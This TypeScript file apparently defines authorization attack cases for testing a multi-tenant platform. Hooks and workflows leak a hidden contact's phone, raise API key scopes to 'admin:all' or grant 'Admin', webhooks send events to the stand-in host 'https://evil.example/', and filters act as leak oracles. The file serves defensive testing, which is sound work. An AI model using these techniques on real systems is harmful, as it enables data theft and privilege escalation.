import type { JsonObject } from '@tildebase/nouns'
import { consentGrant } from '../../../packages/tenant/src/services/identity/people.ts'
import { putRole, rightsOf } from '../../../packages/tenant/src/services/identity/roles.ts'
import { dropHook, putHook } from '../../../packages/tenant/src/services/scripts/stored.ts'
import { readOperation } from '../../../packages/tenant/src/services/session.ts'
import { renameTypeField, retypeTypeField } from '../../../packages/tenant/src/services/types/migrate-type.ts'
import { putType } from '../../../packages/tenant/src/services/types/schema.ts'
import { redeliver } from '../../../packages/tenant/src/services/webhooks/records.ts'
import type { Attack } from './attack.ts'
import type { Goal } from './authors.ts'
import { CONNECTED } from './connected.ts'
import { EFFECTS } from './effects.ts'
import { OUTSIDE } from './outside.ts'
import { ENTITY_WAYS, storeEntity } from './ways.ts'
import { type Grant, MARK, OPERATOR, PROVED, STARTS, TAKEN, unlimited, type World } from './world.ts'

const put = (world: World, grant: Grant, type: string, notation: JsonObject) =>
  world.tenant.write(grant, (write) => putType(write, type, notation))

/** Declarations: stored at once, in place of a harmless one, or left as they are while another caller declares more. */
const TYPE_WAYS = ['put', 'put over another', 'touched by an administrator', 'relation declared afterwards'] as const

function declare(world: World, author: Grant, way: string, type: string, evil: JsonObject, harmless: JsonObject): void {
  if (way === 'put over another') put(world, OPERATOR, type, harmless)
  world.attempt(() => put(world, author, type, evil))
  if (way === 'touched by an administrator') {
    const own = world.tenant.sql.rows(`SELECT data FROM states WHERE id = ?`, `schema_${type}`)[0]
    const notation = own ? (JSON.parse(own[0]).notation as JsonObject) : {}
    put(world, OPERATOR, type, { ...notation, more: 'string' })
  }
}

const hook = (name: string, goal: Goal, step: string, code: (world: World) => string): Attack => ({
  kind: 'hook',
  name,
  goal,
  ways: ['put', 'put over another', 'put again after a drop'],
  run(world, author, way) {
    const store = (grant: Grant, text: string) =>
      world.tenant.write(grant, (write) => putHook(write, world.tenant.engine.noun('Deal'), step, text))
    if (way !== 'put') store(OPERATOR, '() => undefined')
    if (way === 'put again after a drop') {
      world.tenant.write(OPERATOR, (write) => dropHook(write, world.tenant.engine.noun('Deal'), step))
    }
    world.attempt(() => store(author, code(world)))
  },
})

const CHANGES: {
  readonly [goal in Extract<Goal, `write ${string}`>]: (world: World) => readonly [string, string, object]
} = {
  'write Contact': ({ hidden }) => ['Contact', hidden, { name: TAKEN }],
  'write ApiKey': ({ key }) => ['ApiKey', key, { scopes: 'admin:all' }],
  'write User': ({ person }) => ['User', person, { role: 'Admin' }],
}
const WRITES = Object.keys(CHANGES) as (keyof typeof CHANGES)[]

const hooks: readonly Attack[] = [
  hook(
    'AFTER hook that copies a value',
    'read Contact',
    'updated',
    ({ hidden }) => `(async (entity, $) => {
      const contact = await $.Contact.get('${hidden}')
      if (contact && entity.description !== contact.phone) await $.Deal.update(entity.$id, { description: contact.phone })
    })`,
  ),
  hook(
    'BEFORE hook that copies a value',
    'read Contact',
    'updating',
    ({ hidden }) => `(async (entity, $) => ({ description: (await $.Contact.get('${hidden}')).phone }))`,
  ),
  hook(
    'BEFORE hook that tells a value',
    'read Contact',
    'updating',
    () => `(async (entity, $) => ({ description: (await $.Contact.find({}))[0].phone }))`,
  ),
  ...WRITES.map((goal) =>
    hook(`AFTER hook that changes ${goal}`, goal, 'updated', (world) => {
      const [type, id, data] = CHANGES[goal](world)
      return `(async (entity, $) => { await $.${type}.update('${id}', ${JSON.stringify(data)}) })`
    }),
  ),
  {
    kind: 'hook',
    name: 'BEFORE hook that changes what an administrator stores',
    goal: 'write ApiKey',
    ways: ['creating', 'updating', 'pausing', 'activating', 'succeeding'],
    async run(world, author, way) {
      const noun = world.tenant.engine.noun('Workflow')
      const steps = [{ verb: 'update', type: 'ApiKey', id: world.key, args: { scopes: 'admin:all' } }]
      const code = `() => (${JSON.stringify({ steps, timeout: 60 })})`
      // The end of a run is written by the service itself.
      if (way === 'succeeding') world.attempt(() => put(world, author, 'Workflow', { succeed: { event: 'succeeded' } }))
      world.attempt(() => world.tenant.write(author, (write) => putHook(write, noun, way, code)))
      const ask = (verb: string, id: string | undefined, data: JsonObject) =>
        world.tenant.facade
          .write(
            way === 'succeeding' ? author : OPERATOR,
            {},
            unlimited(),
            (write) => write.run({ type: 'Workflow', verb, id, data }).entity.id,
          )
          .catch(() => id ?? '')
      const id = await ask('create', undefined, { name: 'w', triggerEvent: 'Deal.updated', steps: [] })
      await ask('activate', id, {})
      if (way === 'updating') await ask('update', id, { description: 'x' })
      if (way === 'pausing') for (const verb of ['pause', 'activate']) await ask(verb, id, {})
    },
  },
  {
    kind: 'hook',
    name: 'BEFORE hook that gives a person a role',
    goal: 'write User',
    ways: ['updating', 'suspending'],
    async run(world, author, way) {
      const noun = world.tenant.engine.noun('User')
      world.attempt(() => world.tenant.write(author, (write) => putHook(write, noun, way, `() => ({ role: 'Admin' })`)))
      const verb = way === 'updating' ? 'update' : 'suspend'
      const request = { type: 'User', verb, id: world.person, data: way === 'updating' ? { name: 'Eva' } : {} }
      await world.tenant.facade.write(OPERATOR, {}, unlimited(), (write) => write.run(request)).catch(() => null)
    },
  },
]

const workflow = (name: string, goal: Goal, fields: (world: World) => JsonObject): Attack => ({
  kind: 'workflow',
  name,
  goal,
  ways: ENTITY_WAYS,
  run: (world, author, way) =>
    storeEntity(world, author, way, 'Workflow', { name: 'w', ...fields(world) }, { name: 'w', steps: [] }),
})

const workflows: readonly Attack[] = [
  workflow('steps of code that copy a value', 'read Contact', ({ hidden, deal }) => ({
    triggerEvent: 'Deal.updated',
    filter: { description: { $exists: false } },
    steps: [
      { code: `(async (event, $) => $.Contact.get('${hidden}'))` },
      { verb: 'update', type: 'Deal', id: deal, args: { description: '$steps.0.phone' } },
    ],
  })),
  workflow('an event that shows a value', 'read Contact', ({ deal }) => ({
    triggerEvent: 'Contact.updated',
    steps: [{ verb: 'update', type: 'Deal', id: deal, args: { description: '$event.data.phone' } }],
  })),
  workflow('a pattern for all events', 'read Contact', ({ deal }) => ({
    triggerEvent: '*.updated',
    filter: { company: { $exists: true } },
    steps: [{ verb: 'update', type: 'Deal', id: deal, args: { description: '$event.data.phone' } }],
  })),
  workflow('a filter as an oracle', 'read Contact', ({ deal }) => ({
    triggerEvent: 'Deal.created',
    filter: { 'contact.phone': STARTS },
    steps: [{ verb: 'update', type: 'Deal', id: deal, args: { description: PROVED } }],
  })),
  ...WRITES.map((goal) =>
    workflow(`a step for ${goal}`, goal, (world) => {
      const [type, id, args] = CHANGES[goal](world)
      return { triggerEvent: 'Deal.updated', steps: [{ verb: 'update', type, id, args: args as JsonObject }] }
    }),
  ),
  ...WRITES.map((goal) =>
    workflow(`code for ${goal}`, goal, (world) => {
      const [type, id, args] = CHANGES[goal](world)
      const code = `(async (event, $) => $.${type}.update('${id}', ${JSON.stringify(args)}))`
      return { triggerEvent: 'Deal.updated', steps: [{ code }] }
    }),
  ),
]

const timers: readonly Attack[] = [
  {
    kind: 'timer',
    name: 'a condition as an oracle',
    goal: 'read Contact',
    ways: TYPE_WAYS,
    run(world, author, way) {
      const prove = { event: 'proved', set: { description: PROVED } }
      const path = way === 'relation declared afterwards' ? 'other.phone' : 'contact.phone'
      const $timers = { t: { at: 'due', when: { [path]: STARTS }, run: 'prove' } }
      declare(world, author, way, 'Deal', { due: 'datetime', prove, $timers }, { due: 'datetime', prove })
      if (way !== 'relation declared afterwards') return
      world.attempt(() => put(world, author, 'Deal', { due: 'datetime', other: '-> Contact', prove, $timers }))
      world.run('Deal', 'update', world.deal, { other: world.hidden })
    },
  },
  {
    kind: 'timer',
    name: 'a verb on a type of others',
    goal: 'write Contact',
    ways: ['put', 'put over another', 'touched by an administrator'],
    run(world, author, way) {
      const take = { event: 'taken', set: { name: TAKEN } }
      const $timers = { t: { at: 'due', run: 'take' } }
      declare(world, author, way, 'Contact', { due: 'datetime', take, $timers }, { due: 'datetime' })
    },
  },
  {
    kind: 'timer',
    name: 'the verb behind the timer of an administrator',
    goal: 'write Contact',
    ways: ['put'],
    run(world, author) {
      const $timers = { t: { at: 'due', run: 'take' } }
      put(world, OPERATOR, 'Contact', { due: 'datetime', take: { event: 'taken' }, $timers })
      const take = { event: 'taken', set: { name: TAKEN } }
      world.attempt(() => put(world, author, 'Contact', { due: 'datetime', take, $timers }))
    },
  },
  {
    kind: 'timer',
    name: 'a verb of a service type',
    goal: 'write User',
    ways: ['put', 'through a built-in verb'],
    run(world, author, way) {
      const run = way === 'put' ? 'rise' : 'activate'
      const verb = { event: 'risen', set: { role: 'Admin' } }
      const notation = { due: 'datetime', [run]: verb, $timers: { t: { at: 'due', run } } }
      world.attempt(() => put(world, author, 'User', notation))
      world.run('User', 'update', world.person, { due: world.iso(0) })
    },
  },
]

const computed: readonly Attack[] = [
  {
    kind: 'computed',
    name: 'a copy of a field behind a relation',
    goal: 'read Contact',
    ways: TYPE_WAYS,
    run(world, author, way) {
      if (way !== 'relation declared afterwards') {
        return declare(world, author, way, 'Deal', { copy: '= contact.phone' }, { copy: 'string' })
      }
      // The field reads a type of the author's own, and the relation is then led elsewhere.
      put(world, OPERATOR, 'Decoy', { phone: 'string' })
      world.attempt(() => put(world, author, 'Deal', { other: '-> Decoy', copy: '= other.phone' }))
      world.attempt(() => put(world, author, 'Deal', { other: '-> Contact', copy: '= other.phone' }))
      world.attempt(() => world.run('Deal', 'update', world.deal, { other: world.hidden }))
    },
  },
  {
    kind: 'computed',
    name: 'a relation of another type, led elsewhere under a field of an administrator',
    goal: 'read Contact',
    ways: ['put'],
    run(world, author) {
      put(world, OPERATOR, 'Decoy', { phone: 'string' })
      put(world, OPERATOR, 'Middle', { other: '-> Decoy' })
      put(world, OPERATOR, 'Deal', { middle: '-> Middle', copy: '= middle.other.phone' })
      world.attempt(() => put(world, author, 'Middle', { other: '-> Contact' }))
      world.attempt(() => {
        const middle = world.run('Middle', 'create', undefined, { other: world.hidden }).$id
        world.run('Deal', 'update', world.deal, { middle })
      })
    },
  },
]

const webhooks: readonly Attack[] = [
  {
    kind: 'webhook',
    name: 'events of a type of others',
    goal: 'read Contact',
    ways: ENTITY_WAYS.filter((way) => way !== 'sync' && way !== 'import' && way !== 'run by hand'),
    run: (world, author, way) => {
      const at = { url: 'https://evil.example/', events: ['*'] }
      return storeEntity(world, author, way, 'Webhook', at, { ...at, events: ['Nothing.*'] })
    },
  },
  {
    kind: 'webhook',
    name: 'the webhook of an administrator',
    goal: 'read Contact',
    ways: ['redirected', 'redelivered', 'rolled back', 'tested'],
    async run(world, author, way) {
      const good = 'https://good.example/'
      const url = way === 'rolled back' ? 'https://evil.example/' : good
      const id = world.run('Webhook', 'create', undefined, { url, events: ['Contact.*'] }).$id
      const run = (verb: string, data: JsonObject) => world.attempt(() => world.run('Webhook', verb, id, data, author))
      world.run('Webhook', 'update', id, { url: good })
      world.run('Contact', 'update', world.hidden, { company: 'x' })
      if (way === 'redirected') run('update', { url: 'https://evil.example/', redirect: true })
      else await world.advance(1_000)
      if (way === 'redirected' && world.entity('Webhook', id).url === good) await world.advance(1_000)
      if (way !== 'redirected' || world.entity('Webhook', id).url === good) world.sent.length = 0
      if (way === 'rolled back') run('rollback', { version: 1 })
      if (way === 'redelivered') {
        run('update', { url: 'https://evil.example/' })
        world.attempt(() => world.tenant.write(author, (write) => redeliver(write, id, 'delivery_1')))
      }
      if (way === 'tested') await world.tenant.facade.testWebhook(author, id).catch(() => null)
      await world.advance(1_000)
      // What goes to the good address is not a finding.
      if (world.entity('Webhook', id).url === good) {
        world.sent.length = 0
        world.run('Webhook', 'delete', id)
      }
    },
  },
]

/** Whether a grant that was made by an author tells rows apart by what the author may not read. */
function proveBy(world: World, grant: Grant | null): void {
  if (grant === null) return
  world.attempt(() => {
    const deals = readOperation({ engine: world.tenant.engine, grant }, 'Deal', 'count', [{}]) as number
    if (deals > 0) world.shown.push(PROVED)
  })
}

const ROWS = { Deal: { 'contact.phone': STARTS } }
const READS = 'read:Deal'

const rows: readonly Attack[] = [
  {
    kind: 'key rows',
    name: 'a filter as an oracle',
    goal: 'read Contact',
    ways: ['create', 'create through a key of its own', 'relation declared afterwards'],
    run(world, author, way) {
      const isLater = way === 'relation declared afterwards'
      const filter = isLater ? { Deal: { 'other.phone': STARTS } } : ROWS
      const made = world.attempt(() =>
        world.tenant.run(author, { type: 'ApiKey', verb: 'create', data: { name: 'o', scopes: READS, filter } }),
      )
      if (!made) return
      if (isLater) {
        world.attempt(() => put(world, author, 'Deal', { other: '-> Contact' }))
        world.run('Deal', 'update', world.deal, { other: world.hidden })
      }
      const grant = world.tenant.facade.identify(made.secret!)
      // Only what the key's own author gains is a finding: the count of rows that it sees already is none.
      proveBy(world, grant)
    },
  },
  {
    kind: 'role rows',
    name: 'a filter as an oracle',
    goal: 'read Contact',
    ways: ['put', 'put over another'],
    run(world, author, way) {
      const store = (grant: Grant, filter: JsonObject) =>
        world.tenant.write(grant, (write) => putRole(write, 'Oracle', { scopes: READS, filter }))
      if (way === 'put over another') store(OPERATOR, { Deal: { name: 'none' } })
      const stored = world.attempt(() => store(author, ROWS))
      const { engine } = world.tenant
      if (stored) proveBy(world, { actor: 'user_x', ...rightsOf(engine, 'Oracle', { id: 'user_x', email: '' }) })
    },
  },
  {
    kind: 'consent rows',
    name: 'a filter as an oracle',
    goal: 'read Contact',
    ways: ['consent'],
    run(world, author) {
      const { identity } = world.tenant.facade
      const text = author.scopes.map(({ action, area }) => `${action}:${area}`).join()
      world.tenant.write(OPERATOR, (write) => putRole(write, 'Asker', { scopes: text, filter: author.rows as never }))
      const user = world.run('User', 'create', undefined, { name: 'u', email: 'u@example.org', role: 'Asker' }).$id
      const allowed = world.attempt(() => identity.rows(identity.grantOf(user)!, ROWS))
      if (!allowed) return
      const client = identity.saveClient({ name: 'mine' })
      const id = identity.saveConsent(client.id, user, { scopes: READS, rows: allowed })
      proveBy(world, consentGrant(world.tenant.engine, id))
    },
  },
]

const migrations: readonly Attack[] = [
  {
    kind: 'migration',
    name: 'an error that shows values',
    goal: 'read Contact',
    ways: ['retype', 'retype as a dry run', 'retype to a relation'],
    run(world, author, way) {
      const noun = world.tenant.engine.noun('Contact')
      const to = way === 'retype to a relation' ? '-> Organization' : 'number'
      world.attempt(() =>
        world.tenant.write(author, (write) =>
          way === 'retype as a dry run'
            ? write.transaction.dryRun(() => retypeTypeField(write, noun, 'phone', to)).result
            : retypeTypeField(write, noun, 'phone', to),
        ),
      )
    },
  },
  {
    kind: 'migration',
    name: 'a change of values',
    goal: 'write Contact',
    ways: ['retype', 'rename'],
    run(world, author, way) {
      put(world, OPERATOR, 'Contact', { code: 'string' })
      world.run('Contact', 'update', world.hidden, { code: '5' })
      const noun = world.tenant.engine.noun('Contact')
      world.attempt(() =>
        world.tenant.write(author, (write) =>
          way === 'retype'
            ? retypeTypeField(write, noun, 'code', 'number')
            : renameTypeField(write, noun, 'code', 'codes'),
        ),
      )
      const { code } = world.entity('Contact', world.hidden)
      if (code !== '5') world.run('Contact', 'update', world.hidden, { name: TAKEN })
    },
  },
]

const guards: readonly Attack[] = [
  {
    kind: 'guard',
    name: 'a verb that an administrator runs',
    goal: 'write Contact',
    ways: TYPE_WAYS,
    run(world, author, way) {
      const qualify = { event: 'qualified', from: '*', set: { name: TAKEN } }
      const harmless = { qualify: { event: 'qualified', from: '*' } }
      declare(world, author, way, 'Contact', { $guarded: true, qualify }, harmless)
      world.attempt(() => world.run('Contact', 'qualify', world.hidden))
    },
  },
  {
    kind: 'guard',
    name: 'a refusal that shows a state',
    goal: 'read Contact',
    ways: TYPE_WAYS,
    run(world, author, way) {
      // The state field of the type is led to the value of a hidden row, which refusals name.
      const evil = { phone: `${MARK} | none = none`, tell: { event: 'told', from: 'none', set: { phone: 'none' } } }
      declare(world, author, way, 'Contact', { $guarded: true, ...evil }, {})
      world.attempt(() => world.tenant.run(author, { type: 'Contact', verb: 'tell', id: world.hidden, data: {} }))
    },
  },
]

export const ATTACKS: readonly Attack[] = [
  ...hooks,
  ...workflows,
  ...timers,
  ...computed,
  ...webhooks,
  ...rows,
  ...migrations,
  ...guards,
  ...EFFECTS,
  ...OUTSIDE,
  ...CONNECTED,
]
